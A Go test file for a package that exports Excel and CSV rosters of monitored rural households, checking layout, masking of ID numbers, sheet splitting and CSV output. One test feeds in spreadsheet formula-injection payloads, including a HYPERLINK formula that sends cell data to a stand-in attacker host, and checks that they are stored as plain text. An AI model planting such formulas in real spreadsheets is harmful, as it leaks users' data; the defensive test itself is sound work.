package reports_test

import (
	"bytes"
	"errors"
	"fmt"
	"strconv"
	"strings"
	"testing"

	"github.com/shouwang/shouwang/monitor"
	"github.com/shouwang/shouwang/reports"
	"github.com/xuri/excelize/v2"
)

const roster = "监测对象花名册"

func writeRoster(t testing.TB, m reports.Meta, hs []*monitor.Household) []byte {
	t.Helper()
	var buf bytes.Buffer
	if err := reports.Roster(&buf, m, reports.Rows(rosterRows(hs))); err != nil {
		t.Fatalf("Roster: %v", err)
	}
	return buf.Bytes()
}

func TestRoster(t *testing.T) {
	f := open(t, writeRoster(t, meta(), households()))

	t.Run("TitleArea", func(t *testing.T) {
		want(t, f, roster, "A1", "南川区东城街道监测对象花名册（截至2022年12月31日）")
		want(t, f, roster, "A2", "身份证号已脱敏　　数据截至：2022-12-31　　制表人：张敏")
		merged, _ := f.GetMergeCells(roster)
		var refs []string
		for _, m := range merged {
			refs = append(refs, m.GetStartAxis()+":"+m.GetEndAxis())
		}
		if got := strings.Join(refs, " "); got != "A1:AB1 A2:AB2" {
			t.Errorf("merged cells %s, want the title and second line across A:AB", got)
		}
	})

	t.Run("Header", func(t *testing.T) {
		got := strings.Join(header(t, f, roster, 3), ",")
		exp := "乡镇（街道）,村（社区）,组,户编号,户主姓名,人口数,户类型,监测对象类别,风险1,风险2,风险3,风险4,风险5," +
			"识别监测时间,人均纯收入（元）,风险是否消除,风险消除方式,风险消除时间,帮扶责任人,责任人联系电话," +
			"姓名,身份证号,与户主关系,性别,年龄,健康状况,劳动技能,在校生状况"
		if got != exp {
			t.Errorf("header\n got %s\nwant %s", got, exp)
		}
		panes, err := f.GetPanes(roster)
		if err != nil || !panes.Freeze || panes.YSplit != 3 || panes.TopLeftCell != "A4" {
			t.Errorf("panes %+v (%v), want frozen below row 3", panes, err)
		}
		sid, _ := f.GetCellStyle(roster, "A3")
		st, _ := f.GetStyle(sid)
		if !st.Font.Bold || len(st.Fill.Color) == 0 || len(st.Border) != 4 || !st.Alignment.WrapText {
			t.Errorf("header style %+v: want bold, filled, bordered, wrapped", st)
		}
		if w, _ := f.GetColWidth(roster, "V"); w < 20 { // 18-character ID numbers
			t.Errorf("ID column width %v, want room for 18 characters", w)
		}
		if w, _ := f.GetColWidth(roster, "B"); w < 12 { // 村（社区） and 皂角井社区 in CJK
			t.Errorf("village column width %v, want CJK counted double", w)
		}
		names := f.GetDefinedName()
		found := false
		for _, n := range names {
			if n.Name == "_xlnm._FilterDatabase" && n.Scope == roster && n.RefersTo == "'"+roster+"'!$A$3:$AB$12" {
				found = true
			}
		}
		if !found {
			t.Errorf("no autofilter over A3:AB12 in %+v", names)
		}
	})

	t.Run("DataRow", func(t *testing.T) {
		wantRow(t, f, roster, 4, "东城街道", "皂角井社区", "3组", "5001190001000100", "王德明", "3", "脱贫户", "脱贫不稳定户",
			"因病", "缺劳动力", "", "", "", "2022-03", "6,123.45", "否", "", "", "周强", "13900000009",
			"王德明", "500119********"+id("500119195703110012")[14:], "户主", "男", "65", "长期慢性病", "弱劳动力或半劳动力", "")
		wantDateCell(t, f, roster, "N4", "yyyy-mm", "2022-03")
		wantDateCell(t, f, roster, "R7", "yyyy-mm-dd", "2022-11-20")
		if got := raw(t, f, roster, "O4"); got != "6123.45" {
			t.Errorf("income raw %q, want the number 6123.45", got)
		}
		if n, _ := numFmt(t, f, roster, "O4"); n != 4 {
			t.Errorf("income number format %d, want 4 (#,##0.00)", n)
		}
		// The household's columns repeat on each member's row.
		wantRow(t, f, roster, 6, "东城街道", "皂角井社区", "3组", "5001190001000100", "王德明")
		want(t, f, roster, "U6", "王小川")
		want(t, f, roster, "Y6", "12")
		want(t, f, roster, "AB6", "七年级")
		// Household 2: risk eliminated.
		wantRow(t, f, roster, 7, "东城街道", "皂角井社区", "5组", "5001190001000101", "陈桂芳", "1", "一般农户", "边缘易致贫户", "因学")
		want(t, f, roster, "P7", "是")
		want(t, f, roster, "Q7", "帮扶消除")
	})

	t.Run("SubtotalsAndTotal", func(t *testing.T) {
		wantRow(t, f, roster, 8, "东城街道", "皂角井社区小计", "", "2户", "", "4人")
		if got := raw(t, f, roster, "D8"); got != "2" {
			t.Errorf("subtotal households raw %q, want the number 2", got)
		}
		want(t, f, roster, "D9", "5001190006000200")
		wantRow(t, f, roster, 11, "东城街道", "黄渔村小计", "", "1户", "", "2人")
		wantRow(t, f, roster, 12, "合计", "", "", "3户", "", "6人")
		if v := val(t, f, roster, "A13"); v != "" {
			t.Errorf("row 13 = %q, want nothing after the total", v)
		}
	})

	t.Run("Unmask", func(t *testing.T) {
		m := meta()
		m.Unmask = true
		f := open(t, writeRoster(t, m, households()))
		want(t, f, roster, "A2", "身份证号未脱敏（含完整号码，注意保密）　　数据截至：2022-12-31　　制表人：张敏")
		want(t, f, roster, "V4", id("500119195703110012"))
	})
}

func TestRosterRowError(t *testing.T) {
	boom := errors.New("cursor: connection reset")
	rows := func(yield func(reports.RosterHousehold, error) bool) {
		if !yield(rosterRows(households())[0], nil) {
			return
		}
		yield(reports.RosterHousehold{}, boom)
	}
	var buf bytes.Buffer
	err := reports.Roster(&buf, meta(), rows)
	if !errors.Is(err, boom) {
		t.Fatalf("err = %v, want the cursor's error", err)
	}
	if buf.Len() != 0 {
		t.Errorf("%d bytes written on error, want none", buf.Len())
	}
}

// Text beginning with = + - @ stays text: the cell has no formula and shows
// exactly what was typed.
func TestFormulaInjection(t *testing.T) {
	evil := []string{`=HYPERLINK("http://evil.example/?"&A1,"点击")`, "+1", "-2", "@A1", "=1+1"}
	hs := households()[:1]
	h := hs[0]
	h.HeadName, h.Group, h.Code = evil[0], evil[1], evil[2]
	h.Members[0].Name = evil[3]
	h.Members[1].Name = evil[4]
	h.Members[2].Health = evil[0]
	f := open(t, writeRoster(t, meta(), hs))
	for ref, v := range map[string]string{"E4": evil[0], "C4": evil[1], "D4": evil[2], "U4": evil[3], "U5": evil[4], "Z6": evil[0]} {
		if fm, err := f.GetCellFormula(roster, ref); err != nil || fm != "" {
			t.Errorf("%s: formula %q (%v), want none", ref, fm, err)
		}
		want(t, f, roster, ref, v)
		if typ, _ := f.GetCellType(roster, ref); typ != excelize.CellTypeInlineString && typ != excelize.CellTypeSharedString {
			t.Errorf("%s: cell type %v, want a string", ref, typ)
		}
	}

	// Flags carry user text too (names, explanations).
	var buf bytes.Buffer
	fl := flags()[:1]
	fl[0].HeadName, fl[0].Explanation = "@SUM(A1)", "-2+3"
	if err := reports.Flags(&buf, meta(), reports.Rows(fl)); err != nil {
		t.Fatal(err)
	}
	ff := open(t, buf.Bytes())
	for ref, v := range map[string]string{"D4": "@SUM(A1)", "J4": "-2+3"} {
		if fm, _ := ff.GetCellFormula(flagsSheet, ref); fm != "" {
			t.Errorf("flags %s: formula %q, want none", ref, fm)
		}
		want(t, ff, flagsSheet, ref, v)
	}

	// CSV has no cell types: such text gets a leading apostrophe.
	m := meta()
	m.Format = reports.CSV
	buf.Reset()
	if err := reports.Roster(&buf, m, reports.Rows(rosterRows(hs))); err != nil {
		t.Fatal(err)
	}
	recs := readCSV(t, buf.Bytes())
	if got := recs[1][4]; got != "'"+evil[0] {
		t.Errorf("CSV head name %q, want it defused with an apostrophe", got)
	}
}

// Past MaxRows a sheet continues on 名称（续N） with the title and header
// repeated, and no row is lost.
func TestRosterSheetSplit(t *testing.T) {
	defer func(n int) { reports.MaxRows = n }(reports.MaxRows)
	reports.MaxRows = 50
	var hs []*monitor.Household
	for i := range 120 {
		hs = append(hs, &monitor.Household{
			Code: fmt.Sprintf("50011900010%05d", i), Township: "东城街道", Village: "皂角井社区", HeadName: fmt.Sprintf("户主%d", i),
			Size: 1, Category: monitor.CatEdge,
			Members: []monitor.Member{{Name: fmt.Sprintf("户主%d", i), IDNumber: id(fmt.Sprintf("50011919800101%03d0", i)), Relation: "户主"}},
		})
	}
	f := open(t, writeRoster(t, meta(), hs))
	if got, exp := sheets(f), roster+","+roster+"（续1）,"+roster+"（续2）"; got != exp {
		t.Fatalf("sheets %s, want %s", got, exp)
	}
	hdr := strings.Join(header(t, f, roster, 3), ",")
	var names []string
	for _, s := range f.GetSheetList() {
		want(t, f, s, "A1", "南川区东城街道监测对象花名册（截至2022年12月31日）")
		if got := strings.Join(header(t, f, s, 3), ","); got != hdr {
			t.Errorf("%s: header %s, want it repeated", s, got)
		}
		rows, _ := f.GetRows(s)
		if len(rows) > 50 {
			t.Errorf("%s: %d rows, want at most 50", s, len(rows))
		}
		for _, r := range rows[3:] {
			if len(r) > 20 && r[20] != "" {
				names = append(names, r[20])
			}
		}
	}
	if len(names) != 120 {
		t.Fatalf("%d member rows across the sheets, want 120", len(names))
	}
	for i, n := range names {
		if n != "户主"+strconv.Itoa(i) {
			t.Fatalf("row %d is %q, want 户主%d: rows out of order or lost", i, n, i)
		}
	}
	last := roster + "（续2）"
	r := findRow(t, f, last, "A", "合计")
	if r == 0 {
		t.Fatalf("no total row on %s", last)
	}
	want(t, f, last, "D"+strconv.Itoa(r), "120户")
	want(t, f, last, "F"+strconv.Itoa(r), "120人")
}

func TestRosterCSV(t *testing.T) {
	m := meta()
	wb := open(t, writeRoster(t, m, households()))
	m.Format = reports.CSV
	recs := readCSV(t, writeRoster(t, m, households()))
	if got, exp := strings.Join(recs[0], ","), strings.Join(header(t, wb, roster, 3), ","); got != exp {
		t.Errorf("CSV header\n got %s\nwant %s", got, exp)
	}
	// Data rows only: no title, subtotal or total rows.
	if len(recs) != 1+6 {
		t.Fatalf("%d CSV records, want the header and 6 member rows", len(recs))
	}
	exp := []string{"东城街道", "皂角井社区", "3组", "5001190001000100", "王德明", "3", "脱贫户", "脱贫不稳定户",
		"因病", "缺劳动力", "", "", "", "2022-03", "6123.45", "否", "", "", "周强", "13900000009",
		"王德明", "500119********" + id("500119195703110012")[14:], "户主", "男", "65", "长期慢性病", "弱劳动力或半劳动力", ""}
	if got := strings.Join(recs[1], "|"); got != strings.Join(exp, "|") {
		t.Errorf("CSV row 1\n got %s\nwant %s", got, strings.Join(exp, "|"))
	}
	// The same rows as the workbook's data rows, in order.
	wbRows := []int{4, 5, 6, 7, 9, 10}
	for i, r := range wbRows {
		for c, v := range recs[i+1] {
			ref, _ := excelize.CoordinatesToCellName(c+1, r)
			if got := raw(t, wb, roster, ref); got != v && c != 13 && c != 17 { // dates are serials in the workbook
				t.Errorf("CSV record %d col %d = %q, workbook %s = %q", i+1, c+1, v, ref, got)
			}
		}
	}
}
